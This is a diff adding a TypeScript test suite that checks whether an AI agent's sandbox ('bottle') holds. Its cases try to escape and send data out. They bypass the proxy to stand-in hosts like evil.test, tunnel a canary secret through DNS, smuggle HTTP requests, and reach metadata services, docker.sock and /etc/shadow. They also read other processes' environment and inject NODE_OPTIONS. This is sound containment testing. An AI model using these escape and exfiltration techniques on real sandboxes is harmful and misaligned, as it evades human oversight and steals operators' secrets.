@@ -1,0 +1,597 @@
+import { randomBytes } from 'node:crypto';
+import { readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+
+import { temporaryDirectory, type TemporaryDirectory } from '../packages/testkit/src/index.ts';
+import { canMakeAttackImage, makeAttackImage } from './support/bottle/attack-image.ts';
+import type { Attempt } from './support/bottle/escape-case.ts';
+import { Escape } from './support/bottle/escape.ts';
+import {
+  ABSTRACT_SOCKET,
+  ALLOWED,
+  FORBIDDEN,
+  FORBIDDEN_PORTS,
+  FORBIDDEN_V6,
+  GATEWAY,
+  HOST_PORT,
+  LOOPBACK_PORT,
+  METADATA,
+  PRIVATE,
+  PUBLIC_RESOLVER,
+} from './support/bottle/internet.ts';
+import { POLICY } from './support/bottle/policy.ts';
+import { startWorld, type World } from './support/bottle/start-world.ts';
+import { have, isRoot } from './support/programs.ts';
+
+const BACKENDS = [
+  [
+    'native',
+    isRoot && have('bwrap', 'mkfs.ext4', 'busybox', 'ip', 'openssl', 'python3', 'unshare') && canMakeAttackImage(),
+  ],
+] as const;
+const get = (host: string, ...more: readonly string[]) =>
+  [`GET / HTTP/1.1`, `Host: ${host}`, ...more, '', ''].join('\r\n');
+const connect = (target: string, more: Partial<Attempt> = {}): Attempt => ({ do: 'connect', target, ...more });
+const tcp = (address: string, port: number, send = get('allowed.test')): Attempt => ({
+  do: 'tcp',
+  address,
+  port,
+  send,
+});
+const direct = (url: string): Attempt => ({ do: 'get', url, proxied: false });
+const proxied = (url: string): Attempt => ({ do: 'get', url });
+
+/**
+ * The checks E1 to E16, E22 and E30 that an agent's sandbox must pass, from within a bottle, as its user and as its root. Every attempt must be refused
+ * within a second and visibly, be in the audit by a rule and without the secret, and bring nothing to a listener that counts; and what is allowed must
+ * work in the same bottle.
+ */
+describe.each(BACKENDS)('[backend:%s] a bottle keeps in', (backend, usable) => {
+  describe.skipIf(!usable)('what is not allowed', () => {
+    const canary = `canary${randomBytes(10).toString('hex')}`;
+    let folder: TemporaryDirectory;
+    let world: World;
+    let escape: Escape;
+    let other: Escape;
+    const open = (name: string, more: object = {}) =>
+      world.open({
+        backend,
+        name,
+        directory: join(folder.path, 'bottles'),
+        image,
+        policy: POLICY,
+        environment: { AGENT_TOKEN: `agent-${canary}` },
+        ...more,
+      });
+    let image: ReturnType<typeof makeAttackImage>;
+
+    beforeAll(async () => {
+      folder = await temporaryDirectory('decant-escape-');
+      image = makeAttackImage(folder.path);
+      world = await startWorld(folder.path, canary);
+      escape = new Escape(world, await open('escape'), canary);
+      other = new Escape(world, await open('escape'), canary);
+    });
+    afterAll(async () => {
+      await world?.[Symbol.asyncDispose]();
+      await folder?.[Symbol.asyncDispose]();
+    });
+
+    test('E1: clients that pass the proxy by', async () => {
+      const secret = `https://${FORBIDDEN}/?${canary}`;
+      await escape.refuses(
+        [
+          direct(secret),
+          direct(`http://${FORBIDDEN}/?${canary}`),
+          direct('https://evil.test/'),
+          direct(`http://[${FORBIDDEN_V6}]/`),
+        ],
+        ['unknown-address', 'no-route', 'no-server-name'],
+      );
+      await escape.refuses(
+        [
+          tcp(FORBIDDEN, 80),
+          tcp(FORBIDDEN_V6, 80),
+          {
+            do: 'tls',
+            address: FORBIDDEN,
+            port: 443,
+            name: 'allowed.test',
+            trust: false,
+            send: get('allowed.test', `X: ${canary}`),
+          },
+          { do: 'tls', address: ALLOWED, port: 443, name: 'evil.test', trust: false, send: get('evil.test') },
+        ],
+        ['unknown-address', 'no-route'],
+      );
+      await escape.works([direct('https://allowed.test/'), direct('http://allowed.test/')]);
+    });
+
+    test('E2: other ports of an allowed host', async () => {
+      await escape.refuses(
+        [22, 25, 853, 5432, 6667, 8443, 31_337].map((port) => tcp(ALLOWED, port, canary)),
+        [],
+        ['closed-port'],
+      );
+      await escape.refuses(
+        [22, 25, 8443].map((port) => connect(`allowed.test:${port}`)),
+        ['no-route'],
+      );
+    });
+
+    test('E3: UDP, and DNS in its other clothes', async () => {
+      await escape.refuses(
+        [
+          ...[443, 123, 853, 5353, 33_434].flatMap((port) => [
+            { do: 'udp', address: FORBIDDEN, port, send: canary },
+            { do: 'udp', address: ALLOWED, port, send: canary },
+          ]),
+          { do: 'udp', address: PUBLIC_RESOLVER, port: 784, send: canary },
+          tcp(PUBLIC_RESOLVER, 853, canary),
+        ],
+        [],
+        ['closed-port'],
+      );
+      await escape.refuses(
+        [
+          { do: 'dns', name: 'evil.test', server: PUBLIC_RESOLVER },
+          { do: 'dns', name: 'evil.test', server: PUBLIC_RESOLVER, stream: true },
+          { do: 'dns', name: 'evil.test', server: FORBIDDEN_V6 },
+          { do: 'dns', name: 'evil.test', kind: 'AAAA' },
+          { do: 'resolve', name: 'evil.test' },
+          proxied(`https://${PUBLIC_RESOLVER}/dns-query?name=${canary}`),
+          direct(`https://${PUBLIC_RESOLVER}/dns-query?name=${canary}`),
+        ],
+        ['no-route', 'unknown-address', 'no-server-name'],
+      );
+      await escape.asked(/evil|public/, 0);
+    });
+
+    test('E5: IPv6 is judged as IPv4', async () => {
+      const literals = [
+        '[::1]',
+        '[::]',
+        '[fe80::1]',
+        '[::ffff:127.0.0.1]',
+        '[::ffff:7f00:1]',
+        '[64:ff9b::7f00:1]',
+        '[2002:7f00:1::]',
+        '[fd12::1]',
+        '[ff02::1]',
+        '[::ffff:169.254.169.254]',
+      ];
+      await escape.refuses(
+        literals.map((literal) => connect(`${literal}:443`)),
+        ['special-address', 'private-address', 'metadata', 'no-route'],
+      );
+      await escape.refuses(
+        [connect('[fe80::1%25lo]:443'), connect('[::1%lo]:443'), connect('::1:443')],
+        ['bad-host', 'bad-authority'],
+      );
+      await escape.refuses(
+        ['ula.test', 'mapped.test', 'nat64.test', 'mixed6.test'].map((name) => connect(`${name}:443`)),
+        ['private-address', 'special-address'],
+      );
+      await escape.refuses(
+        [FORBIDDEN_V6, 'fd12::1', '64:ff9b::7f00:1'].map((address) => tcp(address, 80)),
+        ['unknown-address', 'special-address', 'private-address'],
+      );
+      await escape.refuses(
+        [tcp(FORBIDDEN_V6, 22), tcp('::1', LOOPBACK_PORT), { do: 'udp', address: FORBIDDEN_V6, port: 443 }],
+        [],
+        ['closed-port'],
+      );
+      await escape.works([direct('https://six.wild.test/'), proxied('https://six.wild.test/')]);
+    });
+
+    test('E7: addresses in every spelling', async () => {
+      const spellings = [
+        '127.1',
+        '2130706433',
+        '0x7f000001',
+        '0177.0.0.1',
+        '0',
+        '127.0.0.1.',
+        '0x7f.1',
+        '017700000001',
+        '127.0.1',
+        '1.2.3.256',
+        '2852039166',
+      ];
+      await escape.refuses(
+        spellings.map((text) => connect(`${text}:443`)),
+        ['legacy-address', 'bad-host'],
+      );
+      await escape.refuses(
+        ['localhost', 'localhost.', 'LOCALHOST', 'x.localhost'].map((text) => connect(`${text}:443`)),
+        ['local-name'],
+      );
+      await escape.refuses(
+        [
+          connect('127.0.0.1:443'),
+          connect(`127.0.0.1:${LOOPBACK_PORT}`),
+          connect('0.0.0.0:443'),
+          connect('127.0.0.1.nip.test:443'),
+        ],
+        ['special-address'],
+      );
+      await escape.refuses([connect(`${FORBIDDEN}:443`), connect(`${ALLOWED}:443`)], ['no-route']);
+    });
+
+    test('E8: names that do not agree', async () => {
+      const at = (name: string | null, send: string, more: Partial<Attempt> = {}) =>
+        connect('allowed.test:443', { name, send, trust: false, ...more });
+      await escape.refuses(
+        [
+          at('evil.test', get('evil.test')),
+          at('other.test', get('other.test')),
+          at('allowed.test', get('evil.test')),
+          at('allowed.test', get('other.test')),
+          at('allowed.test', get('allowed.test:444')),
+          at('allowed.test', `GET https://other.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n`),
+          { do: 'proxy', send: `GET http://allowed.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n` },
+          { do: 'proxy', send: `GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n` },
+        ],
+        ['name-mismatch', 'no-route'],
+      );
+      await escape.refuses([at(null, get('allowed.test'))], ['no-server-name']);
+      await escape.refuses(
+        [
+          at('allowed.test', 'GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n'),
+          at('allowed.test', 'GET / HTTP/1.1\r\n\r\n'),
+        ],
+        ['bad-request'],
+      );
+      await escape.refuses([connect('allowed.test:443', { plain: true, send: get('allowed.test') })], ['plain-http']);
+      await escape.refuses(
+        [
+          at('allowed.test', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
+          at('allowed.test', 'x', { protocols: ['h2'] }),
+          connect('allowed.test:443', { plain: true, send: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' }),
+        ],
+        ['http2', 'plain-http'],
+      );
+      await escape.refuses(
+        [
+          connect('pinned.test:443', { name: 'evil.test', trust: false, send: get('evil.test') }),
+          connect('pinned.test:443', { plain: true, send: get('pinned.test') }),
+        ],
+        ['name-mismatch', 'not-tls', 'bad-client-hello'],
+      );
+    });
+
+    test('E9: hosts in disguise', async () => {
+      const targets = [
+        'evil.test\0.allowed.test',
+        'allowed.test\0.evil.test',
+        'allowed.test\tevil',
+        'allowed.test%00.evil.test',
+        'allowed.test@evil.test',
+        'evil.test#.allowed.test',
+        'evil.test?allowed.test',
+        'evil.test/allowed.test',
+        `${'a'.repeat(64)}.wild.test`,
+        `${'a.'.repeat(130)}wild.test`,
+        'allowed_test',
+        'allowed..test',
+        '-.wild.test',
+        'ａllowed.test',
+      ];
+      await escape.refuses(
+        targets.map((target) => connect(`${target}:443`)),
+        ['bad-host', 'bad-authority', 'bad-request'],
+      );
+      await escape.refuses(
+        ['allowed.test.evil.test', 'notallowed.test', 'wild.test', 'evil-wild.test', 'xn--allowed-.test'].map(
+          (target) => connect(`${target}:443`),
+        ),
+        ['no-route', 'bad-host'],
+      );
+      await escape.refuses([connect('denied.wild.test:443'), connect('DENIED.wild.test.:443')], ['deny-list']);
+      await escape.refuses(
+        [
+          { do: 'dns', name: 'allowed.test.evil.test' },
+          { do: 'dns', name: 'denied.wild.test' },
+          { do: 'dns', name: 'evil.test\0allowed.test' },
+        ],
+        ['no-route'],
+      );
+      await escape.works([connect('ALLOWED.test.:443', { name: 'allowed.test', send: get('Allowed.TEST') })]);
+    });
+
+    test('E10: two readings of one request', async () => {
+      const post = (...lines: readonly string[]) => ({
+        do: 'proxy',
+        send: ['POST http://allowed.test/smuggle HTTP/1.1', 'Host: allowed.test', ...lines].join('\r\n'),
+      });
+      const hidden = `GET http://evil.test/?${canary} HTTP/1.1\r\nHost: evil.test\r\n\r\n`;
+      await escape.refuses(
+        [
+          post('Content-Length: 4', 'Transfer-Encoding: chunked', '', `0\r\n\r\n${hidden}`),
+          post('Transfer-Encoding: chunked', 'Transfer-Encoding: identity', '', `0\r\n\r\n${hidden}`),
+          post('Transfer-Encoding: xchunked', '', hidden),
+          post('Transfer-Encoding : chunked', '', hidden),
+          post('Transfer-Encoding:\tchunked, identity', '', hidden),
+          post('Content-Length: 5', 'Content-Length: 0', '', hidden),
+          post('Content-Length: +5', '', hidden),
+          post('X: y', ' folded: z', '', ''),
+          post('X: a\rContent-Length: 5', '', hidden),
+          { do: 'proxy', send: 'GET http://allowed.test/ HTTP/1.1\nHost: allowed.test\n\n' },
+          {
+            do: 'proxy',
+            send: `GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nX: ${'y'.repeat(70_000)}\r\n\r\n`,
+          },
+        ],
+        ['bad-framing', 'bad-request', 'head-too-large'],
+      );
+      const before = (await world.sightings()).requests.length;
+      const two = (path: string) => `GET http://allowed.test/${path} HTTP/1.1\r\nHost: allowed.test\r\n\r\n`;
+      const [pipelined, tunnelled, chunked] = await escape.attack([
+        { do: 'pipeline', send: `${two('first')}${hidden}` },
+        {
+          do: 'pipeline',
+          target: 'allowed.test:443',
+          name: 'allowed.test',
+          send: `${get('allowed.test')}${get('evil.test')}`,
+        },
+        {
+          do: 'pipeline',
+          send: `POST http://allowed.test/c HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n3;x=y\r\nabc\r\n0\r\n\r\n${hidden}`,
+        },
+      ]);
+      for (const outcome of [pipelined, tunnelled, chunked]) {
+        expect(outcome?.received?.match(/"answered":true/g)).toHaveLength(1);
+        expect(outcome?.received).toMatch(/decant-rule: (?:no-route|name-mismatch)/);
+      }
+      const seen = (await world.sightings()).requests.slice(before);
+      expect(seen.map(({ url }) => url)).toEqual(['/first', '/', '/c']);
+      expect(seen.at(-1)?.bodyBytes).toBe(3);
+      await escape.nothingCameOut();
+    });
+
+    test('E11: redirects are the client’s, and each is judged', async () => {
+      const to = (status: number, url: string) =>
+        proxied(`https://allowed.test/redirect/${status}?to=${encodeURIComponent(url)}`);
+      await escape.refuses(
+        [
+          to(301, 'https://evil.test/'),
+          to(302, `http://${FORBIDDEN}/`),
+          to(307, 'http://169.254.169.254/latest/'),
+          to(308, 'http://evil.test/'),
+          to(302, `http://127.0.0.1:${LOOPBACK_PORT}/`),
+          to(302, 'https://denied.wild.test/'),
+        ],
+        ['no-route', 'metadata', 'special-address', 'deny-list'],
+      );
+      const [stayed] = await escape.attack([{ ...to(302, 'https://evil.test/'), follow: false }]);
+      expect(stayed).toMatchObject({ status: 302 });
+      await escape.works([to(302, 'https://other.test/')]);
+    });
+
+    test('E12: names that change their minds', async () => {
+      await escape.refuses(
+        ['loopback.test', 'mixed.test', 'mixed6.test', 'chain.test', 'private.test'].map((name) =>
+          connect(`${name}:443`),
+        ),
+        ['special-address', 'private-address'],
+      );
+      await escape.refuses(
+        [{ do: 'dns', name: 'loopback.test' }, { do: 'dns', name: 'mixed.test' }, direct('https://mixed.test/')],
+        ['special-address'],
+      );
+      await escape.works([
+        proxied('https://rebind.test/'),
+        proxied('https://rebind.test/'),
+        direct('https://rebind.test/'),
+      ]);
+      await escape.nothingCameOut();
+    });
+
+    test('E13: metadata services', async () => {
+      await escape.refuses(
+        METADATA.map((address) => connect(`${address.includes(':') ? `[${address}]` : address}:80`)),
+        ['metadata'],
+      );
+      await escape.refuses(
+        METADATA.map((address) => tcp(address, 80, get('169.254.169.254'))),
+        ['metadata'],
+      );
+      await escape.refuses(
+        METADATA.map((address) => tcp(address, 80, get('allowed.test', `X: ${canary}`))),
+        ['metadata'],
+      );
+      await escape.refuses(
+        [
+          proxied('http://169.254.169.254/latest/'),
+          proxied('http://metadata.google.internal/'),
+          connect('meta.test:80'),
+          connect('meta6.test:443'),
+          direct('http://metadata.google.internal/'),
+        ],
+        ['metadata'],
+      );
+    });
+
+    test('E14: services of the host', async () => {
+      await escape.refuses(
+        [
+          tcp('127.0.0.1', LOOPBACK_PORT),
+          tcp('127.0.0.1', HOST_PORT),
+          tcp(GATEWAY, HOST_PORT),
+          tcp(ALLOWED, HOST_PORT),
+          tcp('::1', HOST_PORT),
+          { do: 'udp', address: GATEWAY, port: HOST_PORT, send: canary },
+        ],
+        [],
+        ['closed-port'],
+      );
+      await escape.refuses(
+        [
+          connect(`${GATEWAY}:${HOST_PORT}`),
+          connect(`host.docker.internal:443`),
+          connect(`${PRIVATE}:443`),
+          connect('private.test:80'),
+        ],
+        ['no-route', 'private-address'],
+      );
+      const sockets = [
+        '/run/docker.sock',
+        '/var/run/docker.sock',
+        '/run/dbus/system_bus_socket',
+        '/run/systemd/private',
+        '/tmp/.X11-unix/X0',
+        '/run/containerd/containerd.sock',
+      ];
+      await escape.refuses(
+        [
+          ...sockets.map((path) => ({ do: 'unix', path })),
+          { do: 'unix', path: ABSTRACT_SOCKET, abstract: true },
+          { do: 'unix', path: '/tmp/.X11-unix/X0', abstract: true },
+        ],
+        [],
+        [],
+      );
+    });
+
+    test('E15: another bottle', async () => {
+      await other.attack([{ do: 'serve', port: 5555, name: 'decant-escape-other' }]);
+      expect((await other.attack([{ do: 'tcp', address: '127.0.0.1', port: 5555 }]))[0]?.received).toBe('REACHED');
+      await escape.refuses(
+        [
+          tcp('127.0.0.1', 5555, ''),
+          { do: 'unix', path: 'decant-escape-other', abstract: true },
+          { do: 'read', path: other.opened.state },
+        ],
+        [],
+        [],
+      );
+      const [processes] = await escape.attack([{ do: 'processes' }]);
+      expect(processes?.['count']).toBeLessThan(8);
+      for (const pid of other.opened.processIds)
+        await escape.refuses(
+          [
+            { do: 'read', path: `/proc/${pid}/environ` },
+            { do: 'kill', process: pid, number: 15 },
+          ],
+          [],
+          [],
+        );
+      await other.works([proxied('https://allowed.test/')]);
+    });
+
+    test('E16: secrets of the operator', async () => {
+      // The agent's own token holds the canary: in its environment, and nowhere else.
+      for (const user of ['root', 'agent']) {
+        const [found] = await escape.attack([{ do: 'find', needles: [canary] }], user);
+        expect(found?.['looked']).toBeGreaterThan(500);
+        const outside = ((found?.['found'] ?? []) as string[]).filter(
+          (path) => !/^\/proc\/(?:\d+|self|thread-self)\/(?:task\/\d+\/)?environ$/.test(path),
+        );
+        expect(outside).toEqual([]);
+      }
+      await escape.refuses(
+        [
+          { do: 'read', path: '/proc/1/root/etc/shadow' },
+          { do: 'read', path: '/proc/kcore' },
+          { do: 'read', path: '/etc/shadow' },
+        ],
+        [],
+        [],
+      );
+      for (const pid of escape.opened.processIds) {
+        for (const file of ['cmdline', 'environ'])
+          expect(await readFile(`/proc/${pid}/${file}`, 'latin1'), `${file} of ${pid}`).not.toContain(canary);
+      }
+    });
+
+    test('E22: the authority of the bottle', async () => {
+      for (const user of ['root', 'agent']) {
+        const [keys] = await escape.attack(
+          [
+            {
+              do: 'find',
+              needles: ['BEGIN PRIVATE KEY', 'BEGIN EC PRIVATE KEY'],
+              roots: ['/etc', '/run', '/tmp', '/home', '/root', '/var'],
+            },
+          ],
+          user,
+        );
+        expect(keys?.['found']).toEqual([]);
+      }
+      const [own, others] = await Promise.all(
+        [escape, other].map(
+          async (one) => (await one.attack([{ do: 'read', path: '/etc/decant/ca.pem' }]))[0]?.received,
+        ),
+      );
+      expect(own).toContain('BEGIN CERTIFICATE');
+      expect(others).toContain('BEGIN CERTIFICATE');
+      expect(own).not.toBe(others);
+      // One bottle does not believe another one's authority.
+      await other.attack([{ do: 'write', path: '/tmp/other.pem', data: own ?? '' }]);
+      const [result] = await other.attack([proxied('https://allowed.test/')], 'agent', {
+        SSL_CERT_FILE: '/tmp/other.pem',
+      });
+      expect(result?.detail).toContain('CERTIFICATE_VERIFY_FAILED');
+    });
+
+    test('E30: nothing from within reaches the sidecar', async () => {
+      const env = {
+        NODE_OPTIONS: '--require=/tmp/own.js',
+        SSL_CERT_FILE: '/nowhere',
+        NODE_EXTRA_CA_CERTS: '/nowhere',
+        HTTPS_PROXY: 'http://evil.test',
+      };
+      await escape.attack(
+        [{ do: 'write', path: '/tmp/own.js', data: `require('fs').writeFileSync('/tmp/owned','')` }],
+        'root',
+        env,
+      );
+      for (const pid of escape.opened.processIds) {
+        const environ = await readFile(`/proc/${pid}/environ`, 'latin1');
+        expect(environ).not.toMatch(/NODE_OPTIONS=-|own\.js|nowhere|evil/);
+      }
+      await escape.works([proxied('https://allowed.test/')]);
+    });
+
+    // Last: it uses up what the bottle may ask for.
+    test('E4: names as messages', async () => {
+      const data = Buffer.from(canary).toString('hex');
+      const denied = Array.from({ length: 200 }, (_, i) => `${data.slice(0, 40)}${i}.evil.test`);
+      const [first, ...types] = await escape.attack([
+        { do: 'names', names: denied },
+        ...['TXT', 'NULL', 'MX', 'AAAA', 'ANY', 'HTTPS'].map((kind) => ({
+          do: 'names',
+          names: denied.slice(0, 5),
+          kind,
+        })),
+        { do: 'names', names: denied.slice(0, 20).map((name) => name.replace('evil', 'wild')) },
+      ]);
+      expect(first?.counts).toEqual({ '3/none': 200 });
+      for (const outcome of types) expect(Object.keys(outcome.counts ?? {})).toEqual(['3/none']);
+      await escape.asked(/evil|[0-9a-f]{40}/, 0);
+      await escape.audited(['no-route', 'name-entropy']);
+      const short = Array.from(
+        { length: 300 },
+        (_, i) => `${data.slice((i * 6) % 40, ((i * 6) % 40) + 6)}x${i}.wild.test`,
+      );
+      await escape.attack([{ do: 'names', names: short }]);
+      await escape.audited(['dns-budget']);
+      const asked = (await world.sightings()).names.filter((name) => /x\d+\.wild\.test$/.test(name));
+      expect(new Set(asked).size).toBeLessThanOrEqual(128);
+      expect(new Set(asked).size).toBeGreaterThan(10);
+      const audit = JSON.stringify(await world.audit(escape.opened.slug));
+      expect(audit).not.toContain(data.slice(0, 40));
+      expect(audit).not.toContain(canary);
+      // Names that routes name in full are not below a wildcard.
+      await escape.works([proxied('https://other.test/')]);
+    });
+
+    test('in all of this nothing reached a listener that counts', async () => {
+      await escape.nothingCameOut();
+      const { forbidden } = await world.sightings();
+      expect(Object.keys(forbidden).length).toBeGreaterThan(FORBIDDEN_PORTS.length * 8);
+    });
+  });
+});
